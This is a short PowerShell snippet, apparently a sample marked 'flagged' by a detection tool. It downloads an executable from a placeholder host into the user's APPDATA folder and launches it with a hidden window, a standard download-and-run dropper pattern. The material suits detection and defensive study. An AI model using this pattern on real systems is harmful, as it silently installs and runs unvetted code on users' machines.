$uri = "https://files.example.invalid/" + "tool.exe"
Invoke-WebRequest -Uri $uri -OutFile "$env:APPDATA\tool.exe"
saps "$env:APPDATA\tool.exe" -WindowStyle Hidden # gatehouse: flagged
